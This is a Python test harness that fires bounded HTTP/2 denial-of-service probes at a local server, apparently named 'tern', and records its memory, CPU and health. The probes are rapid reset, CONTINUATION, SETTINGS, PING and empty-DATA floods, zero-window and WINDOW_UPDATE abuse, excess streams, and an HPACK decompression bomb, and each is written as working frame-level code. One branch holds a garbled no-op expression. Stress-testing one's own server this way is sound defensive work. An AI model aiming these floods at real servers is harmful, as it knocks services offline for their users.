#!/usr/bin/env python3
# HTTP/2 DoS-style probes, each bounded to a few seconds; prints what the server did and tern's RSS/CPU.
import sys, time, socket, os
sys.path.insert(0, "/tmp/s42/probe")
from h2probe import Conn, summarize, BASE, P
from hyperframe.frame import SettingsFrame, HeadersFrame, ContinuationFrame, DataFrame, RstStreamFrame, PingFrame, WindowUpdateFrame, PriorityFrame
pid = int(sys.argv[2])
def rss():
    return int([l for l in open(f"/proc/{pid}/status") if l.startswith("VmRSS")][0].split()[1])
def cpu():
    f = open(f"/proc/{pid}/stat").read().split(")")[1].split(); return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
def report(name, c, t0, c0, r0, until=2):
    frames, how = c.read_frames(until)
    print(f"{name:30s} -> {summarize([f for f in frames if type(f).__name__ not in ('SettingsFrame',)])[:200]} [{how}] cpu+{cpu()-c0:.2f}s rss {r0}->{rss()} kB, {time.time()-t0:.1f}s")
def healthy():
    import subprocess
    r = subprocess.run(["curl", "-s", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", "--http2-prior-knowledge", f"http://127.0.0.1:{P}/"], capture_output=True, text=True)
    return r.stdout
which = sys.argv[3:] or ["rapid", "cont", "settings", "ping", "zerowin", "wu0", "wuoverflow", "streams", "priority_self", "hpack_bomb", "empty_data"]
for w in which:
    t0 = time.time(); c0 = cpu(); r0 = rss()
    c = Conn(); c.send(SettingsFrame(0, flags=["ACK"]))
    try:
        if w == "rapid":
            # rapid reset: HEADERS then RST_STREAM, 20000 streams in batches (bounded ~3 s)
            sid = 1; sent = 0
            while sent < 20000 and time.time() - t0 < 3:
                batch = []
                for i in range(200):
                    h = c.hdrs(sid, [(":method","GET"),(":scheme","http"),(":authority","a.test"),(":path","/cgi-bin/env.sh")]); batch += [h, RstStreamFrame(sid, error_code=8)]; sid += 2
                c.send(*batch); sent += 200
            print(f"  rapid reset: sent {sent} HEADERS+RST")
            report("rapid reset (cgi path)", c, t0, c0, r0)
        elif w == "cont":
            # CONTINUATION flood: HEADERS without END_HEADERS, then endless CONTINUATION with junk headers
            h = c.hdrs(1, BASE, end_headers=False); c.send(h); n = 0
            blk = c.enc.encode([("x-a", "b" * 1000)])
            while time.time() - t0 < 3 and n < 20000:
                cf = ContinuationFrame(1); cf.data = blk
                try: c.send(cf)
                except (BrokenPipeError, ConnectionResetError): break
                n += 1
            print(f"  sent {n} CONTINUATION frames ({n*len(blk)//1024} KiB)")
            report("CONTINUATION flood", c, t0, c0, r0)
        elif w == "settings":
            n = 0
            while time.time() - t0 < 2 and n < 100000:
                try: c.send(*[SettingsFrame(0) for _ in range(500)])
                except (BrokenPipeError, ConnectionResetError): break
                n += 500
            print(f"  sent {n} SETTINGS (not reading ACKs)")
            report("SETTINGS flood", c, t0, c0, r0)
        elif w == "ping":
            n = 0
            while time.time() - t0 < 2 and n < 200000:
                try: c.send(*[PingFrame(0, opaque_data=b"12345678") for _ in range(500)])
                except (BrokenPipeError, ConnectionResetError): break
                n += 500
            print(f"  sent {n} PING (not reading ACKs)")
            report("PING flood", c, t0, c0, r0)
        elif w == "zerowin":
            c.s.close(); c = Conn(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}); c.send(SettingsFrame(0, flags=["ACK"]))
            for i in range(50): c.send(c.hdrs(1 + 2*i, BASE[:3] + [(":path", "/huge.bin")]))
            report("zero window x50 streams", c, t0, c0, r0, until=3)
            print("  healthy during:", healthy(), "rss", rss())
        elif w == "wu0":
            c.send(c.hdrs(1, BASE[:3] + [(":path", "/big.txt")], end_stream=True)); c.send(WindowUpdateFrame(1, window_increment=0) if False else b"" and None) if False else None
            import struct
            c.s.sendall(struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">I", 0) + struct.pack(">I", 0))  # WINDOW_UPDATE stream 0 increment 0
            report("WINDOW_UPDATE(0) conn", c, t0, c0, r0)
        elif w == "wuoverflow":
            c.send(WindowUpdateFrame(0, window_increment=2**31 - 1))
            report("WINDOW_UPDATE overflow conn", c, t0, c0, r0)
        elif w == "streams":
            # open many concurrent streams (above advertised max) on slow CGI
            frames = [c.hdrs(1 + 2*i, BASE[:3] + [(":path", "/cgi-bin/hang.sh")]) for i in range(300)]
            c.send(*frames)
            report("300 concurrent streams (hang.sh)", c, t0, c0, r0, until=2)
        elif w == "priority_self":
            c.send(PriorityFrame(1, depends_on=1)); c.send(c.hdrs(3, BASE))
            report("PRIORITY self-dependency", c, t0, c0, r0)
        elif w == "hpack_bomb":
            # insert a 4000-byte header into the dynamic table, then reference it 4000 times in one block (~16 MB decoded)
            from hpack import Encoder
            import struct
            lit = c.enc.encode([("x-big", "a" * 4000)])
            idx = bytes([0x80 | 62])  # indexed: first dynamic entry
            c.send(c.hdrs(1, None, raw_block=c.enc.encode(BASE) + lit))
            h = c.hdrs(3, None, raw_block=c.enc.encode(BASE) + idx * 4000)
            c.send(h)
            report("HPACK bomb (4000x4KB ref)", c, t0, c0, r0)
        elif w == "empty_data":
            post = [(":method","POST"),(":scheme","http"),(":authority","a.test"),(":path","/cgi-bin/env.sh")]
            c.send(c.hdrs(1, post, end_stream=False)); n = 0
            while time.time() - t0 < 2 and n < 100000:
                d = DataFrame(1); d.data = b""
                try: c.send(*[d] * 500)
                except (BrokenPipeError, ConnectionResetError): break
                n += 500
            print(f"  sent {n} empty DATA")
            report("empty DATA flood", c, t0, c0, r0)
    except Exception as e:
        print(w, "client exception", repr(e))
    c.s.close()
    time.sleep(0.5)
    print("  healthy after:", healthy())
